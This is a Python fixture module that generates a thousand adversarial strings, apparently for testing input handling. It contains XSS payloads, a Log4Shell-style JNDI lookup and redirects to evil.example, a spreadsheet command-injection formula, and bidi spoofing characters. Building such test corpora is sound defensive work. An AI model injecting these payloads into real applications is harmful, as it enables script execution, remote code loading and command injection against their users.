"""A thousand texts that a stranger might write to act on whoever looks at them."""

from __future__ import annotations

MARKUP = (
    "<script>alert({n})</script>", "<img src=x onerror=alert({n})>", "</textarea><svg/onload=alert({n})>",
    '"><iframe src=javascript:alert({n})>', "' onmouseover='alert({n})", "</script><script>alert({n})</script>",
    '<a href="javascript:alert({n})">x</a>', "<style>*{{display:none}}/*{n}*/</style>", "<!-- {n} --><b>", "]]><x>{n}",
    "&lt;script&gt;{n}&#60;b&#62;", "<math><mtext></math><img src=1 onerror=alert({n})>", "{{{{constructor.{n}}}}}",
    "javascript:alert({n})", "data:text/html;base64,PHN2Zz4={n}", "<base href=//evil.example/{n}>",
    "<svg><use href=#a{n}>",
    "<meta http-equiv=refresh content='0;url=//evil.example/{n}'>", "<details open ontoggle=alert({n})>",
    "${{jndi:ldap://evil.example/{n}}}",
)  # fmt: skip
BIDI = (
    "\u202e{n}gpj.exe", "\u2066{n}\u2069", "\u200f{n}\u200e", "a\u2028b{n}", "\ufeff{n}", "\u0007\u001b[31m{n}",
    "\ue000{n}",
)  # fmt: skip
FORMULAS = (
    "=cmd|'/c calc'!A{n}", "+{n}+1", "-{n}+SUM(A1)", "@SUM({n})", "\t=1+{n}", "\r=1+{n}", '=HYPERLINK("//x",{n})',
)  # fmt: skip
LONG = (
    "x" * 4_000 + "<b>{n}", "<" * 3_000 + "{n}", "\U0001f600" * 900 + "{n}", "a\n" * 1_500 + "{n}",
    "&" * 2_000 + "{n}", '"' * 999 + "{n}",
)  # fmt: skip
TEMPLATES = (*MARKUP, *BIDI, *FORMULAS, *LONG)
#: the texts, none of them twice
TEXTS = tuple(TEMPLATES[n % len(TEMPLATES)].format(n=n) for n in range(1_000))
